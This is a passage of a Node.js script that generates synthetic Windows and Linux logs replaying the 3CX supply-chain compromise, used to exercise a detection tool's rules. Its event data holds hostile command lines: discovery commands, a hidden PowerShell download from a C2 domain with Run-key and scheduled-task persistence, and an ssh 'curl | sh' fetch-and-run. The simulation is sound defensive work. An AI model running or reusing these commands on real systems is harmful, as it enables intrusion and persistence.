#!/usr/bin/env node
/**
 * Writes the demo scenario that `firebreak demo` and `npm start` load: the 3CX supply-chain
 * compromise (March 2023) at a small company, as the logs of its hosts would show it. See README.md
 * for the story, what fires and how the times are shifted on loading.
 *
 *   node packages/server/demo/generate.mjs [OUTPUT_DIR]     (default: this folder)
 *
 * The output is the same bytes on every run: the only randomness is a generator with a fixed seed,
 * drawn in a fixed order, so changing the story and re-running shows the change as a diff.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { seededRandom } from '@firebreak/testkit';

/** The scenario's clock starts here; the server moves every time so that the last event is "now". */
const BASE = '2023-03-29T09:00:00.000Z';
const BASE_MS = Date.parse(BASE);
/** Seconds after BASE past which nothing happens. */
const DURATION = 3600;

const FILES = {
  sysmon: 'windows-sysmon.ndjson',
  security: 'windows-security.ndjson',
  auditd: 'linux-auditd.log',
  syslog: 'linux-syslog.log',
};

/** The bundled rules the scenario must fire (rule ids; titles in README.md). */
const EXPECTED_RULES = [
  '3f1d2163-0d4e-45f8-8431-022686f3fd6a', // 3CXDesktopApp Loads ffmpeg.dll or d3dcompiler_47.dll Without a Valid Signature
  'f0506434-5804-4d73-8078-1ac9a019f7ab', // Unsigned DLL Loaded by a Program Running From a User-Writable Folder
  'bb184e69-7831-4c4f-b31a-ef11540c0bdc', // Installed Desktop Application Resolves a GitHub Raw-Content Host
  '164f57fa-b029-48fd-88ce-d09579e32f45', // Collaboration or VoIP Desktop App Spawns a Shell or LOLBin
  'fcd1e8ce-3e75-4155-8990-6551d4109f2f', // Beaconing From a Program in a User-Writable Folder (correlation)
  'd62a38bf-01d1-4e28-b8e9-5f0904666fdf', // Repeated DNS Lookups of One Name by a Program in a User-Writable Folder (correlation)
  '5cd22ce5-b40e-4055-825c-e6a6644661b3', // Run Key Value Launches a Proxy-Execution LOLBin or a Program in a Writable Windows Folder
  'cfdedfbd-429c-4aff-b549-5d90980444cd', // Scheduled Task Created by an Application in a User-Writable Folder or a Desktop App
];
/** Alerts the bundled pack raises on the scenario (README.md counts them); fewer means a part of the story stopped firing. */
const MIN_ALERTS = 22;

// ---- Deterministic randomness ------------------------------------------------------------------------

const random = seededRandom(0x3c3c2023);
const randomInt = (min, max) => min + Math.floor(random() * (max - min + 1));
const pick = (list) => list[randomInt(0, list.length - 1)];
const hex = (value, digits) => value.toString(16).toUpperCase().padStart(digits, '0');
const randomHex = (digits) => Array.from({ length: digits }, () => hex(randomInt(0, 15), 1)).join('');

// ---- Times -------------------------------------------------------------------------------------------

/** ISO 8601 UTC with milliseconds, of `seconds` after BASE. */
const isoAt = (seconds) => new Date(BASE_MS + Math.round(seconds * 1000)).toISOString();
/** Sysmon's UtcTime: `2023-03-29 09:05:00.123`. */
const sysmonUtc = (seconds) => isoAt(seconds).replace('T', ' ').slice(0, 23);
/** evtx_dump's SystemTime carries microseconds. */
/** Sorts by time (in place), keeping the order of equal times: Array.prototype.sort is stable. */
const byTime = (list) => list.sort((a, b) => a.at - b.at);
const systemTime = (seconds) => `${isoAt(seconds).slice(0, 23)}${String(randomInt(0, 999)).padStart(3, '0')}Z`;

// ---- The company -------------------------------------------------------------------------------------

const DOMAIN = 'ACME';
const DNS_SUFFIX = 'acme.local';
const DOMAIN_SID = 'S-1-5-21-3623811015-3361044348-30300820';
const PBX = { name: `pbx.${DNS_SUFFIX}`, ip: '10.20.0.20' };
const FILE_SERVER = { name: 'srv-files-01', ip: '10.20.5.10' };
const ADMIN_WORKSTATION_IP = '10.20.0.5';
const INVENTORY_SERVER_IP = '10.20.0.30';
/** The actor's infrastructure: the published 3CX C2 domains, on documentation addresses (RFC 5737). */
const C2 = {
  acct: { domain: 'akamaicontainer.com', ip: '203.0.113.47' },
  sales: { domain: 'msstorageazure.com', ip: '203.0.113.89' },
};
const GITHUB_RAW = {
  name: 'raw.githubusercontent.com',
  ips: ['185.199.108.133', '185.199.109.133', '185.199.110.133', '185.199.111.133'],
};

/** Published SHA-256 of the trojanized 3CX 18.12.416 files; every other hash here is made up (see syntheticHash). */
const KNOWN_SHA256 = {
  '3cxdesktopapp.exe': 'FAD482DED2E25CE9E1DD3D3ECC3227AF714BDFBBDE04347DBC1B21D6A3670405',
  'ffmpeg.dll': '7986BBAEE8940DA11CE089383521AB420C443AB7B15ED42AED91FD31CE833896',
  'd3dcompiler_47.dll': '11BE1803E2E307B647A8A7E02D128335C448FF741BF06BF52B332E0BBF423B03',
};

/** Version resources Sysmon copies into events 1 and 7. */
function versionInfo(
  description,
  fileVersion,
  originalFileName,
  product = 'Microsoft® Windows® Operating System',
  company = 'Microsoft Corporation',
) {
  return { description, product, company, fileVersion, originalFileName };
}
const winBuild = (revision) => `10.0.19041.${revision} (WinBuild.160101.0800)`;
const PE_INFO = {
  'userinit.exe': versionInfo('Userinit Logon Application', winBuild(1), 'USERINIT.EXE'),
  'explorer.exe': versionInfo('Windows Explorer', winBuild(2728), 'EXPLORER.EXE'),
  'onedrive.exe': versionInfo('Microsoft OneDrive', '23.038.0219.0001', 'OneDrive.exe', 'Microsoft OneDrive'),
  'outlook.exe': versionInfo('Microsoft Outlook', '16.0.16130.20306', 'Outlook.exe', 'Microsoft Office'),
  'chrome.exe': versionInfo('Google Chrome', '111.0.5563.147', 'chrome.exe', 'Google Chrome', 'Google LLC'),
  '3cxdesktopapp.exe': versionInfo('3CX Desktop App', '18.12.416.0', '3CXDesktopApp.exe', '3CX Desktop App', '3CX Ltd'),
  'cmd.exe': versionInfo('Windows Command Processor', winBuild(746), 'Cmd.Exe'),
  'powershell.exe': versionInfo('Windows PowerShell', winBuild(546), 'PowerShell.EXE'),
  'whoami.exe': versionInfo('whoami - displays logged on user information', winBuild(1), 'whoami.exe'),
  'ipconfig.exe': versionInfo('IP Configuration Utility', winBuild(1), 'ipconfig.exe'),
  'net.exe': versionInfo('Net Command', winBuild(1), 'net.exe'),
  'net1.exe': versionInfo('Net Command', winBuild(1), 'net1.exe'),
  'nltest.exe': versionInfo('Microsoft® Logon Server Test Utility', winBuild(1), 'nltestrk.exe'),
  'ssh.exe': versionInfo('OpenSSH SSH client', '7.7.2.1', 'ssh.exe', 'OpenSSH for Windows'),
  'schtasks.exe': versionInfo('Task Scheduler Configuration Tool', winBuild(1), 'schtasks.exe'),
  'searchprotocolhost.exe': versionInfo(
    'Microsoft Windows Search Protocol Host',
    '7.0.19041.2604 (WinBuild.160101.0800)',
    'SearchProtocolHost.exe',
    'Windows® Search',
  ),
  'backgroundtaskhost.exe': versionInfo('Background Task Host', winBuild(1), 'backgroundTaskHost.exe'),
  'runtimebroker.exe': versionInfo('Runtime Broker', winBuild(2193), 'RuntimeBroker.exe'),
  'taskhostw.exe': versionInfo('Host Process for Windows Tasks', winBuild(2130), 'taskhostw.exe'),
  'dllhost.exe': versionInfo('COM Surrogate', winBuild(546), 'dllhost.exe'),
  'wmiprvse.exe': versionInfo('WMI Provider Host', winBuild(1741), 'Wmiprvse.exe'),
  'compattelrunner.exe': versionInfo('Microsoft Compatibility Telemetry', winBuild(1949), 'CompatTelRunner.exe'),
  'smartscreen.exe': versionInfo('Windows Defender SmartScreen', winBuild(2673), 'smartscreen.exe'),
  'libegl.dll': versionInfo('ANGLE libEGL Dynamic Link Library', '2.1.0.0', 'libEGL.dll', 'ANGLE libEGL Dynamic Link Library', '3CX Ltd'),
  'd3dcompiler_47.dll': versionInfo('Direct3D HLSL Compiler', winBuild(1), 'D3DCOMPILER_47.DLL'),
};
/** What Sysmon writes for a file without version resources (the changed ffmpeg.dll has none). */
const NO_VERSION_INFO = versionInfo('?', '?', '?', '?', '?');

const baseName = (path) => path.slice(path.lastIndexOf('\\') + 1);

/** A stable, obviously synthetic SHA-256 for a file the demo does not have: the hash of its name. */
function syntheticHash(path) {
  return createHash('sha256')
    .update(`firebreak-demo:${baseName(path).toLowerCase()}`)
    .digest('hex')
    .toUpperCase();
}

const sha256Of = (path) => KNOWN_SHA256[baseName(path).toLowerCase()] ?? syntheticHash(path);

// ---- Windows: hosts and processes --------------------------------------------------------------------

/** A Windows 10 workstation of the domain, with one signed-in user. */
function workstation({ name, ip, user, rid, machineTag }) {
  const host = {
    name,
    ip,
    user: `${DOMAIN}\\${user}`,
    userName: user,
    userSid: `${DOMAIN_SID}-${rid}`,
    profile: `C:\\Users\\${user}`,
    machineTag,
    logonId: `0x${randomHex(6).toLowerCase()}`,
    nextPid: 4 * randomInt(750, 1000),
    nextPort: randomInt(49700, 50200),
  };
  host.logonGuid = `${machineTag}-${randomHex(4)}-${randomHex(4)}-0000-0020${randomHex(8)}`;
  // Running before the demo starts (Sysmon logged their start at boot).
  host.system = processRecord(
    host,
    0,
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p',
    'NT AUTHORITY\\SYSTEM',
    'System',
  );
  host.netsvcs = processRecord(
    host,
    0,
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    'NT AUTHORITY\\SYSTEM',
    'System',
  );
  host.winlogon = processRecord(host, 0, 'C:\\Windows\\System32\\winlogon.exe', 'winlogon.exe', 'NT AUTHORITY\\SYSTEM', 'System');
  return host;
}

/** A process record: what Sysmon events name it by. */
function processRecord(host, at, image, commandLine, user = host.user, integrity = 'Medium') {
  host.nextPid += 4 * randomInt(1, 60);
  const seconds = Math.floor(BASE_MS / 1000 + at);
  return {
    host,
    image,
    commandLine,
    user,
    integrity,
    pid: host.nextPid,
    guid: `${host.machineTag}-${hex(seconds & 0xffff, 4)}-${hex(seconds >>> 16, 4)}-${randomHex(4)}-${randomHex(12)}`,
    currentDirectory: user === host.user ? `${host.profile}\\` : 'C:\\Windows\\system32\\',
  };
}

const acct = workstation({ name: 'WS-ACCT-07', ip: '10.20.1.37', user: 'jdoe', rid: 1107, machineTag: 'B3E1C0A7' });
const sales = workstation({ name: 'WS-SALES-02', ip: '10.20.1.52', user: 'msmith', rid: 1142, machineTag: '6F0A2D52' });

// ---- Windows: events ---------------------------------------------------------------------------------

const SYSMON_CHANNEL = 'Microsoft-Windows-Sysmon/Operational';
/** Sysmon 14's event versions. */
const SYSMON_VERSIONS = { 1: 5, 3: 5, 7: 3, 11: 2, 13: 2, 22: 5 };
/** Events of both Windows logs: { at, host, log: 'sysmon' | 'security', eventId, data }. */
const windowsEvents = [];

function sysmon(at, proc, eventId, data) {
  windowsEvents.push({ at, host: proc.host, log: 'sysmon', eventId, data: { RuleName: '-', ...data } });
}

/** Sysmon 1 for a new process; returns the process, for the events it goes on to cause. */
function start(at, parent, image, commandLine, { user = parent.user, integrity = parent.integrity } = {}) {
  const child = processRecord(parent.host, at, image, commandLine, user, integrity);
  const info = PE_INFO[baseName(image).toLowerCase()];
  sysmon(at, child, 1, {
    UtcTime: sysmonUtc(at),
    ProcessGuid: child.guid,
    ProcessId: child.pid,
    Image: image,
    FileVersion: info.fileVersion,
    Description: info.description,
    Product: info.product,
    Company: info.company,
    OriginalFileName: info.originalFileName,
    CommandLine: commandLine,
    CurrentDirectory: child.currentDirectory,
    User: user,
    LogonGuid: user === child.host.user ? child.host.logonGuid : `${child.host.machineTag}-0000-0000-0000-0000E7030000`,
    LogonId: user === child.host.user ? child.host.logonId : '0x3e7',
    TerminalSessionId: user === child.host.user ? 1 : 0,
    IntegrityLevel: integrity,
    Hashes: `SHA256=${sha256Of(image)}`,
    ParentProcessGuid: parent.guid,
    ParentProcessId: parent.pid,
    ParentImage: parent.image,
    ParentCommandLine: parent.commandLine,
    ParentUser: parent.user,
  });
  return child;
}

/** Sysmon 7. `signature`: [Signed, Signature, SignatureStatus]. */
function loadImage(at, proc, imageLoaded, [signed, signature, status]) {
  const info = PE_INFO[baseName(imageLoaded).toLowerCase()] ?? NO_VERSION_INFO;
  sysmon(at, proc, 7, {
    UtcTime: sysmonUtc(at),
    ProcessGuid: proc.guid,
    ProcessId: proc.pid,
    Image: proc.image,
    ImageLoaded: imageLoaded,
    FileVersion: info.fileVersion,
    Description: info.description,
    Product: info.product,
    Company: info.company,
    OriginalFileName: info.originalFileName,
    Hashes: `SHA256=${sha256Of(imageLoaded)}`,
    Signed: signed,
    Signature: signature,
    SignatureStatus: status,
    User: proc.user,
  });
}

/** Sysmon 22, as the DNS client logs a successful lookup. */
function resolveName(at, proc, name, addresses) {
  sysmon(at, proc, 22, {
    UtcTime: sysmonUtc(at),
    ProcessGuid: proc.guid,
    ProcessId: proc.pid,
    QueryName: name,
    QueryStatus: '0',
    QueryResults: addresses.map((ip) => `::ffff:${ip};`).join(''),
    Image: proc.image,
    User: proc.user,
  });
}

const PORT_NAMES = { 22: 'ssh', 443: 'https', 5060: 'sip' };

/** Sysmon 3, an outbound connection. */
function connect(at, proc, ip, port, protocol = 'tcp') {
  const host = proc.host;
  host.nextPort += randomInt(1, 9);
  sysmon(at, proc, 3, {
    UtcTime: sysmonUtc(at),
    ProcessGuid: proc.guid,
    ProcessId: proc.pid,
    Image: proc.image,
    User: proc.user,
    Protocol: protocol,
    Initiated: true,
    SourceIsIpv6: false,
    SourceIp: host.ip,
    SourceHostname: `${host.name}.${DNS_SUFFIX}`,
    SourcePort: host.nextPort,
    SourcePortName: '-',
    DestinationIsIpv6: false,
    DestinationIp: ip,
    DestinationHostname: '-',
    DestinationPort: port,
    DestinationPortName: PORT_NAMES[port] ?? '-',
  });
}

/** Sysmon 11. */
function createFile(at, proc, path) {
  sysmon(at, proc, 11, {
    UtcTime: sysmonUtc(at),
    ProcessGuid: proc.guid,
    ProcessId: proc.pid,
    Image: proc.image,
    TargetFilename: path,
    CreationUtcTime: sysmonUtc(at),
    User: proc.user,
  });
}

/** Sysmon 13, a string value set. */
function setValue(at, proc, targetObject, details) {
  sysmon(at, proc, 13, {
    EventType: 'SetValue',
    UtcTime: sysmonUtc(at),
    ProcessGuid: proc.guid,
    ProcessId: proc.pid,
    Image: proc.image,
    TargetObject: targetObject,
    Details: details,
    User: proc.user,
  });
}

const LOGON_PROCESSES = {
  2: ['User32 ', 'Negotiate', 'C:\\Windows\\System32\\svchost.exe'],
  3: ['Kerberos', 'Kerberos', '-'],
  5: ['Advapi  ', 'Negotiate', 'C:\\Windows\\System32\\services.exe'],
  7: ['User32 ', 'Negotiate', 'C:\\Windows\\System32\\svchost.exe'],
};

/** Security 4624 (version 2, Windows 10). */
function logon(at, host, type, { user = host.userName, domain = DOMAIN, sid = host.userSid, from = '-', logonId = host.logonId } = {}) {
  const [logonProcess, authPackage, processName] = LOGON_PROCESSES[type];
  const local = type === 2 || type === 7;
  windowsEvents.push({
    at,
    host,
    log: 'security',
    eventId: 4624,
    data: {
      SubjectUserSid: type === 3 ? 'S-1-0-0' : 'S-1-5-18',
      SubjectUserName: type === 3 ? '-' : `${host.name}$`,
      SubjectDomainName: type === 3 ? '-' : DOMAIN,
      SubjectLogonId: type === 3 ? '0x0' : '0x3e7',
      TargetUserSid: sid,
      TargetUserName: user,
      TargetDomainName: domain,
      TargetLogonId: logonId,
      LogonType: type,
      LogonProcessName: logonProcess,
      AuthenticationPackageName: authPackage,
      WorkstationName: local ? host.name : '-',
      LogonGuid:
        type === 5
          ? '00000000-0000-0000-0000-000000000000'
          : `${randomHex(8)}-${randomHex(4)}-${randomHex(4)}-${randomHex(4)}-${randomHex(12)}`,
      TransmittedServices: '-',
      LmPackageName: '-',
      KeyLength: 0,
      ProcessId: processName === '-' ? '0x0' : `0x${(4 * randomInt(0x80, 0x100)).toString(16)}`,
      ProcessName: processName,
      IpAddress: local ? '127.0.0.1' : from,
      IpPort: local ? '0' : from === '-' ? '-' : String(randomInt(49200, 65000)),
      ImpersonationLevel: '%%1833',
      RestrictedAdminMode: '-', // only RemoteInteractive logons say
      TargetOutboundUserName: '-',
      TargetOutboundDomainName: '-',
      VirtualAccount: '%%1843',
      TargetLinkedLogonId: '0x0',
      ElevatedToken: type === 5 ? '%%1842' : '%%1843',
    },
  });
}

// ---- Windows: the morning of each user ---------------------------------------------------------------

const OFFICE_FOLDER = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
/** Names the users' browsers and mail resolve all day, with an address of each. */
const EVERYDAY_NAMES = [
  ['www.google.com', '142.250.185.68'],
  ['outlook.office365.com', '52.97.146.162'],
  ['login.microsoftonline.com', '20.190.160.20'],
  ['acme.sharepoint.com', '13.107.136.10'],
  ['www.linkedin.com', '13.107.42.14'],
  ['update.googleapis.com', '142.250.186.35'],
  ['www.bing.com', '204.79.197.200'],
];

/** Signing in and the apps everyone opens first; returns the user's explorer.exe and browser. */
function morning(host, at) {
  logon(at, host, 2);
  const userinit = start(at + 1.2, host.winlogon, 'C:\\Windows\\System32\\userinit.exe', 'C:\\Windows\\system32\\userinit.exe', {
    user: host.user,
    integrity: 'Medium',
  });
  const explorer = start(at + 2.1, userinit, 'C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE');
  const oneDrive = start(
    at + 9.4,
    explorer,
    `${host.profile}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe`,
    `"${host.profile}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background`,
  );
  // OneDrive polls its service from the user's folder; the building-block rules leave Microsoft's sync client out.
  for (let i = 0; i < 4; i++) {
    resolveName(at + 12 + i * 40, oneDrive, 'g.live.com', ['13.107.42.13']);
    connect(at + 12.2 + i * 40, oneDrive, '13.107.42.13', 443);
  }
  const outlook = start(at + 21.7, explorer, `${OFFICE_FOLDER}\\OUTLOOK.EXE`, `"${OFFICE_FOLDER}\\OUTLOOK.EXE" `);
  resolveName(at + 24, outlook, 'outlook.office365.com', ['52.97.146.162']);
  connect(at + 24.1, outlook, '52.97.146.162', 443);
  const chrome = start(at + 48.3, explorer, CHROME, `"${CHROME}" `);
  return { explorer, chrome };
}

/** Every couple of minutes something ordinary: a Windows helper starts, or the browser resolves a name. */
function backgroundActivity(host, { explorer, chrome }, from, to) {
  const helpers = [
    () => [host.system, 'C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding'],
    () => [
      host.system,
      'C:\\Windows\\System32\\backgroundTaskHost.exe',
      '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider',
    ],
    () => [
      host.system,
      'C:\\Windows\\System32\\dllhost.exe',
      'C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}',
    ],
    () => [
      host.system,
      'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
      'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding',
      'NT AUTHORITY\\NETWORK SERVICE',
      'System',
    ],
    () => [host.netsvcs, 'C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe Install $(Arg0)'],
    () => [
      host.netsvcs,
      'C:\\Windows\\System32\\CompatTelRunner.exe',
      'C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun',
      'NT AUTHORITY\\SYSTEM',
      'System',
    ],
    () => [host.system, 'C:\\Windows\\System32\\smartscreen.exe', 'C:\\Windows\\System32\\smartscreen.exe -Embedding'],
    () => [
      explorer,
      'C:\\Windows\\System32\\SearchProtocolHost.exe',
      '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 6.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"',
    ],
  ];
  for (let at = from + randomInt(30, 90); at < to; at += randomInt(100, 200)) {
    if (random() < 0.5) {
      const [parent, image, commandLine, user, integrity] = pick(helpers)();
      start(at, parent, image, commandLine, { user: user ?? host.user, integrity: integrity ?? 'Medium' });
    } else {
      const [name, ip] = pick(EVERYDAY_NAMES);
      resolveName(at, chrome, name, [ip]);
      connect(at + 0.08, chrome, ip, 443);
    }
  }
}

// ---- Windows: the compromise ---------------------------------------------------------------------------

const APP_FOLDER = (host) => `${host.profile}\\AppData\\Local\\Programs\\3CXDesktopApp`;
/** [Signed, Signature, SignatureStatus] */
const UNSIGNED = ['false', '', 'Unavailable'];
const SIGNED_BY_3CX = ['true', '3CX Ltd', 'Valid'];
// The real d3dcompiler_47.dll kept a valid Microsoft signature with the payload appended after it (CVE-2013-3900).
const SIGNED_BY_MICROSOFT = ['true', 'Microsoft Corporation', 'Valid'];

/** The user opens the softphone; it side-loads the changed ffmpeg.dll and registers with the office PBX. */
function launch3cx(host, explorer, at) {
  const folder = APP_FOLDER(host);
  const app = start(at, explorer, `${folder}\\3CXDesktopApp.exe`, `"${folder}\\3CXDesktopApp.exe" `);
  loadImage(at + 0.31, app, `${folder}\\ffmpeg.dll`, UNSIGNED);
  loadImage(at + 0.35, app, `${folder}\\d3dcompiler_47.dll`, SIGNED_BY_MICROSOFT);
  loadImage(at + 0.41, app, `${folder}\\libEGL.dll`, SIGNED_BY_3CX);
  start(
    at + 0.9,
    app,
    app.image,
    `"${app.image}" --type=gpu-process --field-trial-handle=1736,i,1458291376128213853,7364590426498537102,131072 --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --mojo-platform-channel-handle=1744 /prefetch:2`,
  );
  resolveName(at + 2.5, app, PBX.name, [PBX.ip]);
  connect(at + 2.6, app, PBX.ip, 5001);
  connect(at + 3.1, app, PBX.ip, 5060, 'udp');
  return app;
}

/** The shellcode fetches an icon from GitHub, reads the C2 address hidden in it, then checks in about once a minute until `to`. */
function beacon(app, c2, from, to) {
  const githubIp = pick(GITHUB_RAW.ips);
  resolveName(from, app, GITHUB_RAW.name, GITHUB_RAW.ips);
  connect(from + 0.12, app, githubIp, 443);
  for (let at = from + randomInt(20, 40); at < to; at += randomInt(45, 75)) {
    resolveName(at, app, c2.domain, [c2.ip]);
    connect(at + 0.05, app, c2.ip, 443);
  }
}

/** WS-ACCT-07: discovery, a Run key, and jdoe's SSH key used against the file server. */
function handsOnAcct(app, at) {
  const host = app.host;
  const cmd = start(
    at,
    app,
    'C:\\Windows\\System32\\cmd.exe',
    'C:\\Windows\\system32\\cmd.exe /c "whoami /all && ipconfig /all && net group "domain admins" /domain && nltest /dclist:acme.local"',
  );
  start(at + 0.4, cmd, 'C:\\Windows\\System32\\whoami.exe', 'whoami  /all');
  start(at + 1.1, cmd, 'C:\\Windows\\System32\\ipconfig.exe', 'ipconfig  /all');
  const net = start(at + 1.9, cmd, 'C:\\Windows\\System32\\net.exe', 'net  group "domain admins" /domain');
  start(at + 1.95, net, 'C:\\Windows\\System32\\net1.exe', 'C:\\Windows\\system32\\net1  group "domain admins" /domain');
  start(at + 3.2, cmd, 'C:\\Windows\\System32\\nltest.exe', 'nltest  /dclist:acme.local');

  const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
  const survey = start(
    at + 120,
    app,
    ps,
    `powershell.exe -nop -w hidden -c "Get-ChildItem $env:USERPROFILE\\.ssh; Test-NetConnection ${FILE_SERVER.name} -Port 22"`,
  );
  resolveName(at + 121, survey, `${FILE_SERVER.name}.${DNS_SUFFIX}`, [FILE_SERVER.ip]);
  connect(at + 121.2, survey, FILE_SERVER.ip, 22);

  const dll = `${host.profile}\\AppData\\Roaming\\3CXDesktopApp\\UpdateCheck.dll`;
  const persist = start(
    at + 200,
    app,
    ps,
    `powershell.exe -nop -w hidden -c "iwr https://${C2.acct.domain}/u/UpdateCheck.dll -OutFile $env:APPDATA\\3CXDesktopApp\\UpdateCheck.dll; Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run 3CXUpdateCheck 'rundll32.exe ${dll},Check'"`,
  );
  resolveName(at + 200.8, persist, C2.acct.domain, [C2.acct.ip]);
  connect(at + 200.9, persist, C2.acct.ip, 443);
  createFile(at + 202.3, persist, dll);
  setValue(
    at + 202.6,
    persist,
    `HKU\\${host.userSid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\3CXUpdateCheck`,
    `rundll32.exe ${dll},Check`,
  );

  const ssh = start(
    at + 400,
    survey,
    'C:\\Windows\\System32\\OpenSSH\\ssh.exe',
    `"C:\\Windows\\System32\\OpenSSH\\ssh.exe" -o BatchMode=yes -o StrictHostKeyChecking=no backup@${FILE_SERVER.ip} "curl -fsSL https://${C2.sales.domain}/l.sh | sh"`,
  );
  connect(at + 400.3, ssh, FILE_SERVER.ip, 22);
  return at + 400.3;
}

/** WS-SALES-02: the same update, so the same DLL; this time the backdoor schedules itself. */
function handsOnSales(app, at) {
  const dll = `${app.host.profile}\\AppData\\Roaming\\3CXDesktopApp\\UpdateCheck.dll`;
  start(
    at,
    app,
    'C:\\Windows\\System32\\schtasks.exe',
    `schtasks.exe /create /tn "3CXDesktopApp Update" /tr "rundll32.exe ${dll},Check" /sc minute /mo 30 /f`,
  );
}

// ---- Linux: srv-files-01 ---------------------------------------------------------------------------------

/** Audit events: { at, records: [[type, body]] }; syslog: { at, facility, severity, app, pid, message }. */
const auditEvents = [];
const syslogLines = [];
const FACILITY = { auth: 4, cron: 9, authpriv: 10, daemon: 3 };
const SEVERITY = { info: 6, notice: 5 };

function syslog(at, facility, app, pid, message, severity = 'info') {
  syslogLines.push({ at, facility, severity, app, pid, message });
}

/** An audit value: quoted when plain, hex when it holds a space, quote or control character (as auditd writes it). */
function auditValue(text) {
  return /^[\x21-\x7e]*$/.test(text) && !text.includes('"') ? `"${text}"` : Buffer.from(text).toString('hex').toUpperCase();
}

const UNSET = 4294967295;

/** A user-space PAM record of sshd or cron. */
function pamRecord(type, { pid, auid, ses, op, grantors, account, exe, from, terminal }) {
  const where = from ? `hostname=${from} addr=${from}` : 'hostname=? addr=?';
  return [
    type,
    `pid=${pid} uid=0 auid=${auid} ses=${ses} subj=unconfined msg='op=${op} grantors=${grantors} acct="${account}" exe="${exe}" ${where} terminal=${terminal} res=success'`,
  ];
}

/** A session through PAM: account check, credentials, login uid, session start (sshd adds USER_LOGIN). */
function pamSessionStart(at, { pid, uid, ses, account, exe, from, terminal }) {
  const common = { pid, account, exe, from, terminal };
  auditEvents.push({
    at,
    records: [pamRecord('USER_ACCT', { ...common, auid: UNSET, ses: UNSET, op: 'PAM:accounting', grantors: 'pam_permit' })],
  });
  auditEvents.push({
    at: at + 0.002,
    records: [pamRecord('CRED_ACQ', { ...common, auid: UNSET, ses: UNSET, op: 'PAM:setcred', grantors: 'pam_permit,pam_cap' })],
  });
  auditEvents.push({
    at: at + 0.004,
    records: [['LOGIN', `pid=${pid} uid=0 subj=unconfined old-auid=${UNSET} auid=${uid} tty=(none) old-ses=${UNSET} ses=${ses} res=1`]],
  });
  const grantors =
    'pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,pam_systemd,pam_mail,pam_limits,pam_env,pam_env,pam_selinux';
  auditEvents.push({ at: at + 0.03, records: [pamRecord('USER_START', { ...common, auid: uid, ses, op: 'PAM:session_open', grantors })] });
  if (exe === '/usr/sbin/sshd')
    auditEvents.push({
      at: at + 0.04,
      records: [
        [
          'USER_LOGIN',
          `pid=${pid} uid=0 auid=${uid} ses=${ses} subj=unconfined msg='op=login id=${uid} exe="/usr/sbin/sshd" hostname=? addr=${from} terminal=ssh res=success'`,
        ],
      ],
    });
}

function pamSessionEnd(at, { pid, uid, ses, account, exe, from, terminal }) {
  const common = { pid, auid: uid, ses, account, exe, from, terminal };
  auditEvents.push({
    at,
    records: [
      pamRecord('USER_END', {
        ...common,
        op: 'PAM:session_close',
        grantors:
          'pam_selinux,pam_loginuid,pam_keyinit,pam_permit,pam_umask,pam_unix,pam_systemd,pam_mail,pam_limits,pam_env,pam_env,pam_selinux',
      }),
    ],
  });
  auditEvents.push({ at: at + 0.002, records: [pamRecord('CRED_DISP', { ...common, op: 'PAM:setcred', grantors: 'pam_permit' })] });
}

const EXECUTABLE_INODES = {
  '/usr/bin/curl': 1311,
  '/usr/bin/dash': 1288,
  '/usr/bin/bash': 1275,
  '/usr/bin/chmod': 1102,
  '/usr/bin/crontab': 1397,
  '/usr/bin/systemctl': 2854,
  '/usr/bin/rsync': 3021,
  '/usr/bin/run-parts': 1490,
};

/** An execve the `exec` audit rule records: SYSCALL, EXECVE, CWD, PATH (program and loader), PROCTITLE. */
function execve(at, { pid, ppid, uid, auid = uid, ses, exe, argv, cwd, tty = '(none)' }) {
  const comm = argv[0].slice(argv[0].lastIndexOf('/') + 1).slice(0, 15);
  const ids = `auid=${auid} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid}`;
  const inode = EXECUTABLE_INODES[exe] ?? randomInt(400000, 900000);
  const owner = exe.startsWith('/usr/') ? 0 : uid;
  auditEvents.push({
    at,
    records: [
      [
        'SYSCALL',
        `arch=c000003e syscall=59 success=yes exit=0 a0=55${randomHex(10).toLowerCase()} a1=55${randomHex(10).toLowerCase()} a2=55${randomHex(10).toLowerCase()} a3=8 items=2 ppid=${ppid} pid=${pid} ${ids} tty=${tty} ses=${ses} comm="${comm}" exe="${exe}" subj=unconfined key="exec"`,
      ],
